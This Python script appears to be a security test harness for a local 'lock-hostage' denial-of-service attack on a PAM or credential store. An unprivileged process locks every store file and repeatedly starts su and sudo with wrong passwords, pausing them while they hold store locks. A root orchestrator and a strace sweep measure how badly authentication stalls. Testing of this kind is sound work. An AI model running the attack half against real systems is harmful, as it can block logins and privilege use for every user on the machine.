#!/usr/bin/python3
"""Issue 8, section 1, done for real: the lock-hostage attack.

Two halves, one file:

  attack   runs as an unprivileged local user.  Takes flock, fcntl (POSIX)
           and OFD locks on every file of the store directory (and the
           directory itself) that it can open, and keeps them, and the
           files, open.  Starts setuid su and sudo over and over (su on a
           pty of its own, answering the prompt with a wrong password, a
           wrong token or a token it owns; sudo -S with a wrong password),
           polls /proc/locks as fast as it can and SIGSTOPs its own su/sudo
           whenever one holds ANY lock on ANY file of the store.  Locks are
           matched by device (major:minor) and inode, never by file name.
           It also stops a running su/sudo at random instants ("stop
           points") and checks whether it holds a store lock then.
           Protocol (stdout -> orchestrator, stdin <- orchestrator):
             STOP <hit|miss> <pids> <what>   a child is stopped; waits for
             CONT | QUIT                     the answer, then SIGCONTs it
             DONE key=value ...              statistics, at the end

  run      runs as root: starts the attacker through setpriv, and at every
           STOP runs the measuring script (one "NAME MS RC" line per
           operation) while the su/sudo is stopped, then says CONT.
           Writes the figures to --out; kills (CONT, then KILL) every
           process of the attacking uid when it ends, whatever happened.

Nothing here knows how the store is laid out: the lead may rename, add or
remove files and the attack still covers them.
"""
import argparse
import errno
import fcntl
import os
import pty
import random
import select
import signal
import struct
import subprocess
import sys
import termios
import time

# --- /proc/locks ----------------------------------------------------------


def store_files(store):
    """{(major, minor, inode): path} of the directory, everything in it and
    below (whatever we can stat)."""
    found = {}
    stack = [store]
    while stack:
        d = stack.pop()
        try:
            st = os.lstat(d)
        except OSError:
            continue
        found[(os.major(st.st_dev), os.minor(st.st_dev), st.st_ino)] = d
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for n in names:
            p = os.path.join(d, n)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if os.path.isdir(p) and not os.path.islink(p):
                stack.append(p)
            else:
                found[(os.major(st.st_dev), os.minor(st.st_dev),
                       st.st_ino)] = p
    return found


def parse_locks(text, files):
    """Held (not waiting) locks on the store: list of
    (kind, mode, pid, key, start, end)."""
    out = []
    for line in text.splitlines():
        f = line.split()
        if len(f) < 8 or f[1] == "->":
            continue
        try:
            kind, mode, pid = f[1], f[3], int(f[4])
            maj, mnr, ino = f[5].split(":")
            key = (int(maj, 16), int(mnr, 16), int(ino))
        except ValueError:
            continue
        if key in files:
            out.append((kind, mode, pid, key, f[6], f[7]))
    return out


def fdinfo_locks(pid, files):
    """The locks of pid's open file descriptions on the store, from
    /proc/PID/fdinfo (OFD locks show pid -1 in /proc/locks: this is how we
    tell ours from a su's)."""
    res = []
    try:
        fds = os.listdir("/proc/%d/fdinfo" % pid)
    except OSError:
        return res
    for fd in fds:
        try:
            with open("/proc/%d/fdinfo/%s" % (pid, fd)) as f:
                text = f.read()
        except OSError:
            continue
        res += parse_locks("\n".join(l.split("\t", 1)[1]
                                     for l in text.splitlines()
                                     if l.startswith("lock:")), files)
    return res


class LockWatch:
    def __init__(self, store):
        self.store = store
        self.fd = os.open("/proc/locks", os.O_RDONLY | os.O_CLOEXEC)
        self.files = store_files(store)
        self.rescanned = time.monotonic()

    def rescan(self):
        self.files = store_files(self.store)
        self.rescanned = time.monotonic()

    def held(self):
        chunks = []
        off = 0
        while True:
            b = os.pread(self.fd, 1 << 16, off)
            if not b:
                break
            chunks.append(b)
            off += len(b)
        return parse_locks(b"".join(chunks).decode(errors="replace"),
                           self.files)

    def describe(self, locks):
        return ",".join(sorted({"%s:%s:%s:%s-%s" % (k, m,
                    os.path.basename(self.files.get(key, "?")) or "?", s, e)
                    for k, m, _p, key, s, e in locks}))


# --- the attacker's own locks -------------------------------------------------

F_OFD_SETLK = getattr(fcntl, "F_OFD_SETLK", 37)


def flock_struct(ltype):
    # struct flock: short type, short whence, off_t start, off_t len, pid_t
    return struct.pack("hhxxxxqqixxxx", ltype, os.SEEK_SET, 0, 0, 0)


class Holder:
    """flock + POSIX + OFD locks on every store file we can open; the
    descriptors stay open for the whole run."""

    def __init__(self):
        self.done = set()
        self.fds = []
        self.taken = {"flock": 0, "posix": 0, "ofd": 0}

    def take(self, files):
        for key, path in files.items():
            if key in self.done:
                continue
            self.done.add(key)
            wr = os.access(path, os.W_OK) and not os.path.isdir(path)
            flags = (os.O_RDWR if wr else os.O_RDONLY) | os.O_NONBLOCK | \
                os.O_CLOEXEC | os.O_NOFOLLOW
            ltype = fcntl.F_WRLCK if wr else fcntl.F_RDLCK
            try:
                fd1 = os.open(path, flags)
                fd2 = os.open(path, flags)
                fd3 = os.open(path, flags)
            except OSError:
                continue
            self.fds += [fd1, fd2, fd3]
            try:
                fcntl.flock(fd1, fcntl.LOCK_EX | fcntl.LOCK_NB)
                self.taken["flock"] += 1
            except OSError:
                try:
                    fcntl.flock(fd1, fcntl.LOCK_SH | fcntl.LOCK_NB)
                    self.taken["flock"] += 1
                except OSError:
                    pass
            try:
                fcntl.fcntl(fd2, fcntl.F_SETLK, flock_struct(ltype))
                self.taken["posix"] += 1
            except OSError:
                pass
            try:
                fcntl.fcntl(fd3, F_OFD_SETLK, flock_struct(ltype))
                self.taken["ofd"] += 1
            except OSError:
                pass


# --- the attacker ---------------------------------------------------------------


class Child:
    def __init__(self, pid, fd, kind, answer):
        self.pid, self.fd, self.kind, self.answer = pid, fd, kind, answer
        self.t0 = time.monotonic()
        self.answered = None
        self.buf = b""


def spawn_su(argv, answer):
    pid, fd = pty.fork()
    if pid == 0:
        try:
            os.execvp(argv[0], argv)
        finally:
            os._exit(127)
    os.set_blocking(fd, False)
    return Child(pid, fd, "su", answer)


def spawn_pipe(argv, answer, kind):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(w)
            os.dup2(r, 0)
            nul = os.open("/dev/null", os.O_RDWR)
            os.dup2(nul, 1)
            os.dup2(nul, 2)
            os.setsid()
            os.execvp(argv[0], argv)
        finally:
            os._exit(127)
    os.close(r)
    try:
        os.write(w, answer + b"\n")
    except OSError:
        pass
    os.close(w)
    c = Child(pid, None, kind, answer)
    c.answered = time.monotonic()
    return c


def proc_state(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "?"


def attack(a):
    out = sys.stdout
    token = b""
    if a.token:
        with open(a.token, "rb") as f:
            token = f.readline().strip()
    bad_token = b"apu_" + b"0" * 12 + b"Wrong" * 6 + b"000000"
    jobs = [("su", ["su", "root", "-c", "true"], b"not-the-root-password")]
    for u in a.su_token_user:
        jobs.append(("su", ["su", u, "-c", "true"], token))
    for u in a.su_wrong_user:
        jobs.append(("su", ["su", u, "-c", "true"], bad_token))
    jobs.append(("sudo", ["sudo", "-S", "-p", "pw:", "true"],
                 b"not-my-password"))
    if a.pipe_job:
        # only these: "ANSWERFILE ARGV...", the answer fed on a pipe
        jobs = []
        for spec in a.pipe_job:
            f = spec.split()
            with open(f[0], "rb") as fh:
                jobs.append((os.path.basename(f[1]), f[1:],
                             fh.readline().strip()))

    w = LockWatch(a.store)
    h = Holder()
    if not a.no_hold:
        h.take(w.files)
    mine = os.getpid()
    base = {}		# OFD locks (pid -1) of ours and of --ignore-locks-of

    def refresh_base():
        base.clear()
        for p in [mine] + a.ignore_locks_of:
            for l in fdinfo_locks(p, w.files):
                if l[2] == -1:
                    base[l] = base.get(l, 0) + 1
    refresh_base()

    kids = {}
    st = dict(spawned=0, stops=0, hits=0, misses=0,
              eperm=0, polls=0, exited=0, random_stops=0, lock_stops=0)
    hitfiles = {}
    end = time.monotonic() + a.seconds
    next_random = time.monotonic() + 0.05
    ji = 0
    quit_ = False
    paused = [0.0]	# time spent waiting for the orchestrator
    # a child just continued runs on for a moment before it may be stopped
    # again, so that it reaches the next stop point instead of being held
    # at the same one for the whole run
    cool = {}
    hit_pids = set()

    def foreign(locks, fresh=False):
        seen = {}
        res = []
        for l in locks:
            if l[2] == mine or l[2] in a.ignore_locks_of:
                continue
            if l[2] == -1:
                seen[l] = seen.get(l, 0) + 1
                if seen[l] <= base.get(l, 0):
                    continue
                if not fresh:	# a lock of ours we have not seen yet?
                    refresh_base()
                    return foreign(locks, True)
            res.append(l)
        return res

    def stop_and_report(pids, why):
        nonlocal quit_
        stopped = []
        for p in pids:
            try:
                os.kill(p, signal.SIGSTOP)
                stopped.append(p)
            except OSError as e:
                if e.errno == errno.EPERM:
                    st["eperm"] += 1
        if not stopped:
            return
        st["stops"] += 1
        st[why] += 1
        t = time.monotonic() + 0.2
        while time.monotonic() < t and \
                any(proc_state(p) not in ("T", "t", "Z", "?") for p in stopped):
            time.sleep(0.0005)
        held = [l for l in foreign(w.held()) if l[2] in stopped or l[2] == -1]
        if held:
            st["hits"] += 1
            hit_pids.update(stopped)
            for l in held:
                n = os.path.basename(w.files.get(l[3], "?"))
                hitfiles[n] = hitfiles.get(n, 0) + 1
            tag = "hit"
        else:
            st["misses"] += 1
            tag = "miss"
        kinds = ",".join(sorted({kids[p].kind for p in stopped if p in kids}))
        out.write("STOP %s %s %s %s\n" % (tag, ",".join(map(str, stopped)),
                                          kinds or "-",
                                          w.describe(held) or "-"))
        out.flush()
        t_wait = time.monotonic()
        ans = sys.stdin.readline().strip()
        paused[0] += time.monotonic() - t_wait
        for p in stopped:
            cool[p] = time.monotonic() + random.uniform(0.001, 0.03)
            try:
                os.kill(p, signal.SIGCONT)
            except OSError:
                pass
        if ans != "CONT":
            quit_ = True

    try:
        while not quit_ and time.monotonic() < end + paused[0]:
            now = time.monotonic()
            # keep a few su/sudo running
            while len(kids) < a.parallel:
                kind, argv, ans = jobs[ji % len(jobs)]
                ji += 1
                try:
                    c = spawn_su(argv, ans) if kind == "su" else \
                        spawn_pipe(argv, ans, kind)
                except OSError:
                    break
                kids[c.pid] = c
                st["spawned"] += 1
                st[kind] = st.get(kind, 0) + 1
            # the watcher: any lock of any of our children on the store
            st["polls"] += 1
            locks = foreign(w.held())
            if locks:
                pids = {l[2] for l in locks if l[2] in kids}
                if any(l[2] == -1 for l in locks):
                    pids = set(kids)	# OFD: the owner is not shown
                pids = {p for p in pids if cool.get(p, 0) <= now}
                if pids:
                    stop_and_report(sorted(pids), "lock_stops")
                    continue
            if now >= next_random and kids:
                next_random = now + random.uniform(0.02, 0.12)
                c = random.choice(list(kids))
                if cool.get(c, 0) <= now:
                    stop_and_report([c], "random_stops")
                continue
            if now - w.rescanned > 0.1:
                w.rescan()
                if not a.no_hold:
                    h.take(w.files)
                refresh_base()
            # answer prompts, drain output
            fds = [c.fd for c in kids.values() if c.fd is not None]
            r = select.select(fds, [], [], 0)[0] if fds else []
            for c in list(kids.values()):
                if c.fd in r:
                    try:
                        data = os.read(c.fd, 4096)
                    except OSError:
                        data = b""
                    c.buf = (c.buf + data)[-256:]
                if c.fd is not None and c.answered is None and \
                        c.buf.rstrip().endswith(b":"):
                    try:
                        echo = termios.tcgetattr(c.fd)[3] & termios.ECHO
                    except termios.error:
                        echo = 0
                    if not echo:
                        try:
                            os.write(c.fd, c.answer + b"\n")
                        except OSError:
                            pass
                        c.answered = now
            # reap; kill what waits out a failure delay
            for c in list(kids.values()):
                try:
                    p, _ = os.waitpid(c.pid, os.WNOHANG)
                except ChildProcessError:
                    p = c.pid
                if p == c.pid:
                    st["exited"] += 1
                    cool.pop(c.pid, None)
                    if c.fd is not None:
                        os.close(c.fd)
                    del kids[c.pid]
                    continue
                if (c.answered is not None and now - c.answered > 0.3) or \
                        now - c.t0 > 3:
                    try:
                        os.kill(c.pid, signal.SIGKILL)
                    except OSError:
                        pass
    finally:
        for c in kids.values():
            for s in (signal.SIGCONT, signal.SIGKILL):
                try:
                    os.kill(c.pid, s)
                except OSError:
                    pass
        for c in kids.values():
            try:
                os.waitpid(c.pid, 0)
            except OSError:
                pass
    st["hit_children"] = len(hit_pids)
    st["own_locks"] = "flock%d/posix%d/ofd%d" % (
        h.taken["flock"], h.taken["posix"], h.taken["ofd"])
    st["hit_files"] = ",".join("%s:%d" % kv for kv in
                               sorted(hitfiles.items())) or "-"
    out.write("DONE " + " ".join("%s=%s" % kv for kv in st.items()) + "\n")
    out.flush()


def hold(a):
    """Locks on every store file we can open, kept (and extended to new
    files) until stdin closes."""
    w = LockWatch(a.store)
    h = Holder()
    h.take(w.files)
    sys.stdout.write("HELD flock%d/posix%d/ofd%d\n" % (
        h.taken["flock"], h.taken["posix"], h.taken["ofd"]))
    sys.stdout.flush()
    while not select.select([sys.stdin], [], [], 0.1)[0]:
        w.rescan()
        h.take(w.files)
    sys.stdout.write("HELD flock%d/posix%d/ofd%d\n" % (
        h.taken["flock"], h.taken["posix"], h.taken["ofd"]))


# --- the orchestrator (root) --------------------------------------------------------


def pids_where(field, value):
    """The pids whose /proc/PID/status line FIELD ("Uid:", "PPid:") starts
    with VALUE; a process that ends meanwhile is left out."""
    pids = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/status" % d) as f:
                for line in f:
                    if line.startswith(field):
                        if int(line.split()[1]) == value:
                            pids.append(int(d))
                        break
        except (OSError, ValueError):
            pass
    return pids


def kill_uid(uid):
    """CONT then KILL every process whose real uid is the attacker's: all
    started by this test (we are in a private pid namespace)."""
    for s in (signal.SIGCONT, signal.SIGKILL):
        for pid in pids_where("Uid:", uid):
            try:
                os.kill(pid, s)
            except OSError:
                pass


def children(ppid):
    return pids_where("PPid:", ppid)


def kill_children(ppid):
    """CONT then KILL the children of ppid (and their setpriv'd selves)."""
    kids = children(ppid)
    for s in (signal.SIGCONT, signal.SIGKILL):
        for k in kids:
            try:
                os.kill(k, s)
            except OSError:
                pass


class Measurer:
    """Runs the measuring script (one "NAME MS RC" line per operation)
    while something is stopped, and keeps the figures per operation.

    The first operation of the first round may take --timeout (to show
    that a stalled one really hangs); once one took 1 s or more, every
    later one gets --timeout-after-slow.  After --max-slow-rounds rounds
    with a slow or failed operation the failure is shown: is_done_slow()
    then tells the caller to stop measuring where it stalls, so that a
    broken store does not eat the whole budget."""

    def __init__(self, a, deadline):
        self.a = a
        self.deadline = deadline
        self.ops = {}		# name -> [n, max_ms, n_over, n_fail]
        self.rounds = self.hits = self.slow_rounds = 0
        self.tmo = a.timeout

    def fits(self):
        est = self.tmo + (self.a.ops - 1) * \
            min(self.tmo, self.a.timeout_after_slow) + 1
        return self.rounds < self.a.max_rounds and \
            time.monotonic() + est < self.deadline

    def done_slow(self):
        return self.slow_rounds >= self.a.max_slow_rounds

    def round(self, tag, what):
        self.rounds += 1
        self.hits += tag == "hit"
        env = dict(os.environ, TMO=str(self.tmo),
                   TMO_SLOW=str(self.a.timeout_after_slow))
        r = subprocess.run(["sh", self.a.measure], env=env,
                           stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, text=True)
        slow = []
        for m in r.stdout.splitlines():
            f = m.split()
            if len(f) != 3:
                continue
            name, ms, rc = f[0], int(f[1]), int(f[2])
            o = self.ops.setdefault(name, [0, 0, 0, 0])
            o[0] += 1
            o[1] = max(o[1], ms)
            o[2] += ms >= 1000
            o[3] += rc != 0
            if ms >= 1000 or rc != 0:
                slow.append("%s=%dms/rc%d" % (name, ms, rc))
        print("# %s: %s" % (what, " ".join(slow) or
                            "all operations under 1 s"), flush=True)
        if slow:
            self.slow_rounds += 1
            self.tmo = min(self.tmo, self.a.timeout_after_slow)

    def write(self, f, t0):
        f.write("measured rounds=%d hits_measured=%d slow_rounds=%d "
                "seconds=%.1f\n" % (self.rounds, self.hits,
                                    self.slow_rounds,
                                    time.monotonic() - t0))
        for name, (n, mx, over, fail) in sorted(self.ops.items()):
            f.write("op %s n=%d max_ms=%d over_1s=%d failed=%d\n" % (
                name, n, mx, over, fail))


def run(a):
    import pwd
    pw = pwd.getpwnam(a.user)
    me = os.path.abspath(a.attacker_copy)
    argv = [sys.executable, me, "attack",
            "--store", a.store, "--seconds", str(a.seconds),
            "--parallel", str(a.parallel)]
    if pw.pw_uid != 0:
        argv = ["setpriv", "--reuid=%d" % pw.pw_uid,
                "--regid=%d" % pw.pw_gid, "--init-groups",
                "--reset-env"] + argv
    if a.no_hold:
        argv.append("--no-hold")
    for i in a.ignore_locks_of:
        argv += ["--ignore-locks-of", str(i)]
    for j in a.pipe_job:
        argv += ["--pipe-job", j]
    if a.token:
        argv += ["--token", a.token]
    for u in a.su_token_user:
        argv += ["--su-token-user", u]
    for u in a.su_wrong_user:
        argv += ["--su-wrong-user", u]
    t0 = time.monotonic()
    deadline = t0 + a.budget
    m = Measurer(a, deadline)
    stops = []
    sigs = set()	# lock sets already seen held by a stopped child
    done = ""
    p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         text=True, bufsize=1, start_new_session=True)
    try:
        for line in p.stdout:
            line = line.strip()
            if line.startswith("DONE "):
                done = line[5:]
                break
            if not line.startswith("STOP "):
                continue
            _, tag, pids, kind, what = line.split(" ", 4)
            stops.append(tag)
            new_sig = tag == "hit" and what not in sigs
            if tag == "hit":
                sigs.add(what)
            # measure at every lock hit (once operations stall, at a new
            # lock set or every slow_every-th hit, and no more at all
            # after max_slow_rounds stalled rounds), and at some misses
            nhit = stops.count("hit")
            measure = m.fits() and (
                (tag == "hit" and not m.done_slow() and (
                    m.tmo == a.timeout or new_sig or
                    nhit % a.slow_every == 1)) or
                (tag == "miss" and len(stops) % a.miss_every == 0))
            if measure:
                m.round(tag, "stop %d (%s; %s %s holds %s)" % (
                    len(stops), tag, kind, pids, what))
            go = time.monotonic() < deadline
            p.stdin.write("CONT\n" if go else "QUIT\n")
            p.stdin.flush()
    finally:
        try:
            p.stdin.close()
        except OSError:
            pass
        try:
            p.wait(timeout=5)
        except subprocess.TimeoutExpired:
            # it did not clean up after itself: its children first (by
            # parent pid, while they are still its), then it
            kill_children(p.pid)
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()
        if pw.pw_uid != 0:
            kill_uid(pw.pw_uid)
    with open(a.out, "w") as f:
        f.write("attack %s\n" % done)
        m.write(f, t0)
        f.write("signatures %d %s\n" % (len(sigs), " ".join(sorted(sigs))))
    return 0


# --- the sweep (root): stop a PAM caller at each of its lock calls ----------------


def held_by(pid, w):
    """Every lock pid holds on the store: POSIX and flock ones from
    /proc/locks (by pid), OFD ones from its fdinfo."""
    locks = [l for l in w.held() if l[2] == pid]
    locks += [l for l in fdinfo_locks(pid, w.files) if l[2] == -1]
    return locks


def descendants(pid):
    """pid's children, their children... (a pty or setsid does not hide
    them from this, unlike from a process group kill)."""
    ppid = {}
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                with open("/proc/%s/stat" % d) as f:
                    ppid[int(d)] = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                pass
    out, todo = [], [pid]
    while todo:
        q = todo.pop()
        kids = [c for c, pp in ppid.items() if pp == q]
        out += kids
        todo += kids
    return out


def sweep_once(a, w, m, job, k):
    """Run job under strace, SIGSTOPped right after its k-th fcntl/flock
    call (in each of its processes); measure while the first one is
    stopped, continue any other at once.  Returns (stopped, exit status,
    the call it stopped after, the locks it held)."""
    answer, argv = job
    cmd = ["strace", "-f", "-qq"] + (["-u", a.as_user] if a.as_user else [])
    r, wfd = os.pipe()
    cmd += ["-o", "/dev/fd/%d" % wfd, "-e", "trace=fcntl,flock", "-e",
            "inject=fcntl,flock:signal=SIGSTOP:when=%d" % k, "--"] + argv
    if a.pty:		# the answer typed on a terminal (su reads from it)
        cmd = [sys.executable, a.pty, answer, "--"] + cmd
    with open("/dev/null" if a.pty else answer, "rb") as fin:
        p = subprocess.Popen(cmd, stdin=fin, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, pass_fds=[wfd],
                             start_new_session=True)
    os.close(wfd)
    last, stopped, held, buf = {}, None, [], b""
    end = time.monotonic() + a.sweep_timeout
    try:
        while time.monotonic() < end:
            if not select.select([r], [], [], 0.1)[0]:
                continue
            data = os.read(r, 65536)
            if not data:
                break		# strace, and so the job, has ended
            buf += data
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                # "PID  call..." (strace pads short pids with spaces)
                f = line.decode(errors="replace").split(None, 1)
                if len(f) != 2 or not f[0].isdigit():
                    continue
                pid, what = int(f[0]), f[1].strip()
                if not what.startswith("--- stopped by SIGSTOP"):
                    if not what.startswith("---"):
                        last[pid] = what
                    continue
                if stopped is None:
                    stopped = pid
                    w.rescan()
                    held = held_by(pid, w)
                    tag = "hit" if held else "miss"
                    if m.fits() and ((tag == "hit" and not m.done_slow()) or
                                     (tag == "miss" and
                                      k % a.miss_every == 0)):
                        m.round(tag, "sweep `%s`, stopped after fcntl/flock "
                                "call %d [%s], holds %s" % (
                                    " ".join(argv), k, last.get(pid, "?"),
                                    w.describe(held) or "-"))
                    end = time.monotonic() + a.sweep_timeout
                os.kill(pid, signal.SIGCONT)
    finally:
        os.close(r)
        try:
            p.wait(timeout=max(0.1, end - time.monotonic()))
        except subprocess.TimeoutExpired:
            kids = descendants(p.pid)
            print("# sweep `%s`, call %d: no end after %.0f s; strace's last "
                  "lines %s; its processes %s" % (
                      " ".join(argv), k, a.sweep_timeout,
                      list(last.items())[-3:] + [buf.decode(errors="replace")],
                      [(c, proc_state(c)) for c in kids]), flush=True)
            for sig in (signal.SIGCONT, signal.SIGKILL):
                for c in [p.pid] + kids:
                    try:
                        os.kill(c, sig)
                    except OSError:
                        pass
            p.wait()
    return stopped is not None, p.returncode, last.get(stopped, ""), held


def sweep(a):
    """For each job: stop it after its 1st, 2nd, ... fcntl/flock call
    (strace signal injection: a real SIGSTOP, at a known point), until it
    runs to its end without making another one.  What a local user does
    to its own su at random instants, here at every lock call in turn."""
    t0 = time.monotonic()
    m = Measurer(a, t0 + a.budget)
    w = LockWatch(a.store)
    lines = []
    for spec in a.pipe_job:
        f = spec.split()
        job = (f[0], f[1:])
        name = " ".join(f[1:])
        points = hits = 0
        what = {}
        status = "-"
        for k in range(1, a.max_calls + 2):
            if m.done_slow():	# shown: the "op" lines fail
                status = "stalled"
                break
            if not m.fits():	# out of budget or rounds: no verdict
                status = "cut"
                break
            stopped, rc, call, held = sweep_once(a, w, m, job, k)
            if not stopped:
                status = "rc%s" % rc
                break
            points += 1
            if held:
                hits += 1
                d = w.describe(held)
                what[d] = what.get(d, 0) + 1
        else:
            status = "more than %d lock calls" % a.max_calls
        lines.append("sweep stop_points=%d hits=%d end=%s job=%s "
                     "held=%s\n" % (points, hits, status.replace(" ", "_"),
                                    name.replace(" ", "_"),
                                    ";".join("%s*%d" % kv for kv in
                                             sorted(what.items())) or "-"))
    with open(a.out, "w") as f:
        for l in lines:
            f.write(l)
        m.write(f, t0)
    return 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["attack", "run", "hold", "sweep"])
    ap.add_argument("--store", required=True)
    ap.add_argument("--seconds", type=float, default=25)
    ap.add_argument("--parallel", type=int, default=4)
    ap.add_argument("--token")
    ap.add_argument("--su-token-user", action="append", default=[])
    ap.add_argument("--su-wrong-user", action="append", default=[])
    ap.add_argument("--pipe-job", action="append", default=[],
                    help='"ANSWERFILE ARGV...": a job fed on a pipe')
    ap.add_argument("--no-hold", action="store_true")
    ap.add_argument("--ignore-locks-of", type=int, action="append",
                    default=[])
    # run and sweep
    ap.add_argument("--user")
    ap.add_argument("--attacker-copy", default=__file__)
    ap.add_argument("--measure")
    ap.add_argument("--out")
    ap.add_argument("--budget", type=float, default=45)
    ap.add_argument("--timeout", type=float, default=5)
    ap.add_argument("--timeout-after-slow", type=float, default=1.2)
    ap.add_argument("--miss-every", type=int, default=8)
    ap.add_argument("--slow-every", type=int, default=10)
    ap.add_argument("--max-rounds", type=int, default=50)
    ap.add_argument("--max-slow-rounds", type=int, default=2,
                    help="stop measuring where it stalls after this many "
                    "rounds with a slow or failed operation")
    ap.add_argument("--ops", type=int, default=8,
                    help="operations in one measuring round")
    # sweep only
    ap.add_argument("--max-calls", type=int, default=200,
                    help="lock calls per job at most")
    ap.add_argument("--sweep-timeout", type=float, default=10)
    ap.add_argument("--as-user", help="strace -u: run the job as this user "
                    "(setuid programs keep their privilege under a root "
                    "tracer)")
    ap.add_argument("--pty", help="pty_answer.py: type the answer on a "
                    "terminal instead of a pipe")
    a = ap.parse_args()
    if a.mode == "attack":
        attack(a)
        return 0
    if a.mode == "hold":
        hold(a)
        return 0
    if a.mode == "sweep":
        return sweep(a)
    return run(a)


if __name__ == "__main__":
    sys.exit(main())
